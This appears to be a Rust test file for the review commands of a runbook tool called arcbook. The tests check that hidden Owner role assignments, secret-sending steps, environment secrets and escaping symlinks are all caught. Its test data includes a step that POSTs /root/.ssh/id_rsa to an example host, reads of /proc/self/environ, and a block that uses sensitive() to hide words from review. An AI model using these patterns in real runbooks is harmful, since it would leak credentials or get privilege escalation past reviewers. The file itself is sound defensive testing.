//! Reviews: what `audit`, `permissions`, `diff` and `report` rely on, and what the author of a runbook could hide from them.

use std::fs;
use std::process::Command;

use crate::support::{Place, Ran, finished};

/// The step of which every review must know.
const OWNER: &str = r#"step "role_assignment" "x" {
  GATE
  scope        = "/subscriptions/11111111-1111-4111-8111-111111111111"
  role         = "Owner"
  principal_id = "22222222-2222-4222-8222-222222222222"
}
"#;

/// Conditions that are false here and now, and need not be so in a run.
const OPEN: [&str; 17] = [
    "when = var.maintenance",
    "when = local.never",
    "when = timecmp(plantimestamp(), \"2099-01-01T00:00:00Z\") > 0",
    "when = fileexists(\"/nothing/is/here\")",
    "count = timecmp(plantimestamp(), \"2099-01-01T00:00:00Z\") > 0 ? 1 : 0",
    "count = var.maintenance ? 1 : 0",
    "for_each = fileset(\"/etc\", \"nothing-*\")",
    "for_each = toset([for name in var.names : name])",
    "for_each = var.names",
    "when = path.cwd == \"/srv/prod\"",
    "when = abspath(\".\") == \"/srv/prod\"",
    "when = pathexpand(\"~\") == \"/srv/prod\"",
    "when = fileexists(\"prod\")",
    "when = file(\"f.txt\") == \"prod\"",
    "when = try(file(\"prod\"), \"\") == \"prod\"",
    "count = filesha256(\"f.txt\") == \"00\" ? 1 : 0",
    "for_each = fileset(\".\", \"*.prod\")",
];

const VARIABLES: &str = r#"
variable "maintenance" { default = false }
variable "names" {
  type    = set(string)
  default = []
}
locals { never = !true }
"#;

fn with_gate(gate: &str) -> String {
    format!("{VARIABLES}{}", OWNER.replace("GATE", gate))
}

fn ended(ran: Ran, code: i32) -> Ran {
    assert_eq!(ran.code, Some(code), "{}", ran.seen());
    ran
}

#[test]
fn a_step_that_may_run_is_reviewed() {
    for gate in OPEN {
        let place = Place::new();
        place.write("old/main.runbook.hcl", VARIABLES);
        place.write("new/f.txt", "test");
        place.write("new/main.runbook.hcl", with_gate(gate));
        let audited = place.run(&["audit", "new"]);
        assert!(
            audited.code == Some(1) && audited.out.contains("rights-owner"),
            "{gate}: {}",
            audited.seen()
        );
        let permissions = ended(place.run(&["permissions", "new"]), 0);
        assert!(
            permissions.out.contains("Microsoft.Authorization/roleAssignments/write"),
            "{gate}: {}",
            permissions.seen()
        );
        let compared = place.run(&["diff", "old", "new", "-fail-on", "privilege"]);
        assert_eq!(compared.code, Some(2), "{gate}: {}", compared.seen());
        ended(place.run(&["diff", "new", "new", "-fail-on", "privilege"]), 0);
        // The plan is that of this machine, now.
        let plan = ended(place.run(&["plan", "new"]), 0);
        let is_of_run =
            gate.contains("plantimestamp") || plan.out.contains("Nothing") || !plan.out.contains("+ ");
        assert!(is_of_run, "{gate}: {}", plan.seen());
    }
}

/// A value that depends on the machine is not the one of the reviewer's machine.
#[test]
fn a_value_of_the_machine_is_not_known() {
    let conditions = [
        "path.cwd == \"/srv/prod\"",
        "abspath(\".\") == \"/srv/prod\"",
        "pathexpand(\"~\") == \"/srv/prod\"",
        "fileexists(\"prod\")",
        "try(file(\"prod\"), \"\") == \"prod\"",
        "can(filesha256(\"prod\"))",
        "can(tobool(plantimestamp()))",
        "can(regex(\"^2099\", plantimestamp()))",
        "can(regex(\"^/srv\", abspath(\".\")))",
        "can(tobool(path.cwd))",
        "length(fileset(\".\", \".arcbook/**\")) > 0",
        "can(tobool(pathexpand(\"~\")))",
        "can(tobool(file(\"/etc/hostname\")))",
        "!can([for x in [1] : tobool(plantimestamp())])",
        "can({ a = tobool(plantimestamp()), b = 1 }.b)",
        "can(plantimestamp() == \"2099\" ? 1 : tobool(\"no\"))",
        "try({ a = tobool(plantimestamp()), b = false }.b, true)",
        "try(tobool(plantimestamp()), true)",
        "try(length(try(tobool(plantimestamp()), [1])), 0) == 1",
        "can(templatefile(\"t.tftpl\", { at = plantimestamp() }))",
        "can(templatefile(\"now.tftpl\", {}))",
        "templatefile(\"part.j2\", {}) == \"prod\"",
    ];
    for condition in conditions {
        let place = Place::new();
        place.write("old/main.runbook.hcl", OWNER.replace("GATE", "").replace("Owner", "Reader"));
        place.write("new/t.tftpl", "${tobool(at)}");
        place.write("new/now.tftpl", "${{ a = tobool(plantimestamp()), b = 1 }.b}");
        place.write("new/part.j2", "{% include \"prod\" ignore missing %}");
        let role = format!("role = {condition} ? \"Owner\" : \"Reader\"");
        place.write(
            "new/main.runbook.hcl",
            OWNER.replace("GATE", "").replace("role         = \"Owner\"", &role),
        );
        let compared = place.run(&["diff", "old", "new", "-fail-on", "privilege"]);
        assert_eq!(compared.code, Some(2), "{condition}: {}", compared.seen());
        // An absolute path is the same everywhere.
        ended(place.run(&["validate", "new"]), 0);
    }
}

/// A file that a review does not read is named, and the right one.
#[test]
fn a_file_that_only_a_run_reads_is_named() {
    let place = Place::new();
    let sends = |file: &str| {
        format!(
            "step \"http\" \"h\" {{\n  url    = \"https://example.com/\"\n  method = \"POST\"\n  text   = file(\"{file}\")\n}}\nstep \"echo\" \"r\" {{ input = file(\"readme.txt\") }}\n"
        )
    };
    for (side, file) in [("old", "/etc/hostname"), ("new", "/root/.ssh/id_rsa")] {
        place.write(&format!("{side}/main.runbook.hcl"), sends(file));
        place.write(&format!("{side}/readme.txt"), "x");
    }
    let audited = place.run(&["audit", "new"]);
    assert!(audited.out.contains("sends-private-file"), "{}", audited.seen());
    let compared = place.run(&["diff", "old", "new", "-fail-on", "privilege"]);
    assert_eq!(compared.code, Some(2), "{}", compared.seen());
    assert!(compared.out.contains("/root/.ssh/id_rsa"), "{}", compared.seen());
    assert!(!compared.out.contains("readme.txt"), "{}", compared.seen());
}

/// The value of a variable in the environment of the reviewer may be a secret of theirs.
#[test]
fn no_variable_of_the_environment_counts() {
    let place = Place::new();
    place.write("new/main.runbook.hcl", "variable \"token\" {}\nstep \"echo\" \"a\" { input = var.token }\n");
    place.write("old/main.runbook.hcl", "variable \"token\" {}\n");
    for arguments in [
        &["diff", "old", "new", "-verbose"][..],
        &["audit", "new", "-format", "input"],
        &["permissions", "new", "-json"],
        &["report", "new", "-markdown"],
    ] {
        let mut command = place.command(arguments);
        let ran = Ran::of(finished(command.env("ARCBOOK_VAR_token", "canary-of-the-reviewer")));
        assert!(ran.code == Some(0) && !ran.seen().contains("canary"), "{arguments:?}: {}", ran.seen());
    }
}

/// A pull request may carry links.
#[cfg(unix)]
#[test]
fn no_link_leads_out_of_the_runbook() {
    let place = Place::new();
    place.write("home/key", "canary-of-the-reviewer\n");
    place.write("home/config.json", "{\"auths\": \"canary-of-the-reviewer\"}\n");
    place.write("old/main.runbook.hcl", "");
    let runbook = "variable \"auths\" { default = \"\" }\noutput \"a\" { value = var.auths }\noutput \"b\" { value = fileset(\".\", \"**\") }\n";
    for (target, link) in [
        ("../home/key", "evil.runbook.hcl"),
        ("../home/config.json", "a.auto.vars.json"),
        ("../home", "directory"),
    ] {
        place.write("new/main.runbook.hcl", runbook);
        std::os::unix::fs::symlink(target, place.path().join("new").join(link)).expect("a link");
        for arguments in [
            &["diff", "old", "new", "-verbose"][..],
            &["audit", "new", "-format", "input"],
            &["permissions", "new"],
            &["report", "new", "-markdown"],
        ] {
            let ran = place.run(arguments);
            let leaks = ran.seen().contains("canary") || ran.seen().contains("config.json\"");
            assert!(!leaks, "{arguments:?}: {}", ran.seen());
            let is_refused = ran.code == Some(3) && ran.err.contains("a link that leads out");
            assert_eq!(is_refused, link != "directory", "{arguments:?}: {}", ran.seen());
        }
        std::fs::remove_file(place.path().join("new").join(link)).expect("removed");
    }
}

/// A review lists what a runbook releases, so nothing else may release a secret.
#[test]
fn a_template_releases_nothing() {
    for value in [
        "templatefile(\"t.tpl\", { v = step.keyvault_secret.s.value })",
        "templatestring(local.t, { v = step.keyvault_secret.s.value })",
    ] {
        let place = Place::new();
        place.write("t.tpl", "${nonsensitive(v)}");
        place.write(
            "main.runbook.hcl",
            format!(
                "locals {{ t = \"$${{nonsensitive(v)}}\" }}\nstep \"keyvault_secret\" \"s\" {{\n  vault = \"kv01\"\n  name  = \"a\"\n}}\noutput \"a\" {{ value = {value} }}\n"
            ),
        );
        for command in ["validate", "plan", "audit"] {
            let ran = place.run(&[command]);
            assert!(ran.code == Some(3) && ran.err.contains("nonsensitive"), "{command}: {}", ran.seen());
        }
    }
}

#[test]
fn what_the_runbook_itself_leaves_out_does_not_run() {
    for gate in ["when = false", "when = 1 > 2", "count = 0", "for_each = toset([])"] {
        let place = Place::new();
        place.write("new/main.runbook.hcl", with_gate(gate));
        let audited = ended(place.run(&["audit", "new"]), 0);
        assert!(!audited.out.contains("rights-owner"), "{gate}: {}", audited.seen());
    }
}

#[test]
fn a_review_reads_nothing_beside_the_runbook() {
    let place = Place::new();
    place.write("canary.txt", "canary-of-the-reviewer");
    let outside = place.path().join("canary.txt");
    let outside = outside.to_str().expect("UTF-8");
    place.write("old/main.runbook.hcl", "");
    place.write("new/own.txt", "own-text");
    let own = "step \"echo\" \"own\" { input = file(\"own.txt\") }\n";
    for read in [
        format!("try(file(\"{outside}\"), \"no\")"),
        format!("try(filebase64(\"{outside}\"), \"no\")"),
        format!("try(templatefile(\"{outside}\", {{}}), \"no\")"),
        "try(file(\"/proc/self/environ\"), \"no\")".to_owned(),
        "try(file(\"link\"), \"no\")".to_owned(),
    ] {
        place.write("new/main.runbook.hcl", format!("{own}step \"echo\" \"x\" {{ input = {read} }}\n"));
        #[cfg(unix)]
        let _ = std::os::unix::fs::symlink(outside, place.path().join("new/link"));
        for arguments in [
            &["diff", "old", "new", "-markdown"][..],
            &["diff", "old", "new", "-json"],
            &["audit", "new", "-format", "input"],
            &["permissions", "new", "-json"],
            &["report", "new", "-markdown"],
        ] {
            let ran = Ran::of(finished(place.command(arguments).env("CI_TOKEN", "canary-of-the-reviewer")));
            assert_eq!(ran.code, Some(0), "{read}: {}", ran.seen());
            let coded = ["canary-of-the-reviewer", "Y2FuYXJ5LW9mLXRoZS1yZXZpZXdlc"];
            assert!(!coded.iter().any(|text| ran.seen().contains(text)), "{read}: {}", ran.seen());
        }
    }
    let input = ended(place.run(&["audit", "new", "-format", "input"]), 0);
    assert!(input.out.contains("own-text"), "{}", input.seen());
}

/// Words of a runbook and of arcbook that an author would hide from a review.
const HIDING: &str = r#"
locals {
  _a = sensitive("Owner")
  _b = sensitive(join("", ["find", "ings"]))
  _c = [for word in ["level", "error", "rights-owner", "privilege", "roleAssignments", "diagnostics"] : sensitive(word)]
}
variable "_d" {
  default   = "grows"
  sensitive = true
}
"#;

#[test]
fn no_author_chooses_the_words_that_a_review_hides() {
    let place = Place::new();
    place.write("plain/main.runbook.hcl", OWNER.replace("GATE", ""));
    place.write("hiding/main.runbook.hcl", format!("{HIDING}{}", OWNER.replace("GATE", "")));
    place.write("old/main.runbook.hcl", "");
    place.write(
        "policies/owner.rego",
        "package arcbook\nimport rego.v1\ndeny contains msg if {\n  some step in input.plan.steps\n  \
         step.arguments.value.role == \"Owner\"\n  msg := \"nobody assigns Owner\"\n}\n",
    );
    for arguments in [
        &["audit"][..],
        &["audit", "-json"],
        &["audit", "-format", "sarif"],
        &["audit", "-format", "junit"],
        &["permissions"],
        &["permissions", "-json"],
        &["permissions", "-custom-role", "x"],
        &["diff", "old"],
        &["diff", "old", "-json"],
        &["diff", "old", "-markdown"],
    ] {
        let on = |runbook: &str| place.run(&[arguments, &[runbook]].concat());
        let (plain, hiding) = (on("plain"), on("hiding"));
        assert_eq!(plain.code, hiding.code, "{arguments:?}: {}", hiding.seen());
        let count = |ran: &Ran| ran.out.matches("(sensitive").count();
        assert_eq!(count(&hiding), count(&plain), "{arguments:?}: {}", hiding.seen());
    }
    for runbook in ["plain", "hiding"] {
        let ran = ended(place.run(&["run", "-auto-approve", "-policy", "policies", runbook]), 3);
        // What is printed in a run is searched for every secret.
        assert!(ran.err.contains("nobody assigns"), "{}", ran.seen());
    }
}

#[test]
fn a_name_that_is_a_path_and_a_revision_is_neither() {
    let place = Place::new();
    let git = |arguments: &[&str]| {
        let mut git = Command::new("git");
        git.current_dir(place.path()).args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(arguments);
        assert!(finished(&mut git).status.success(), "git {arguments:?}");
    };
    place.write("site/main.runbook.hcl", "step \"echo\" \"a\" { input = 1 }\n");
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "a"]);
    git(&["update-ref", "refs/remotes/origin/main", "HEAD"]);
    place.write("site/main.runbook.hcl", OWNER.replace("GATE", ""));
    let typed = ["diff", "origin/main", "site", "-fail-on", "privilege"];
    assert_eq!(place.run(&typed).code, Some(2));
    fs::create_dir_all(place.path().join("origin")).expect("made");
    crate::support::copy(&place.path().join("site"), &place.path().join("origin/main"));
    let refused = ended(place.run(&typed), 3);
    assert!(refused.err.contains("is both a path and a revision"), "{}", refused.seen());
    assert_eq!(place.run(&["diff", "origin/main^0", "site", "-fail-on", "privilege"]).code, Some(2));
    ended(place.run(&["diff", "./origin/main", "site", "-fail-on", "privilege"]), 0);
}
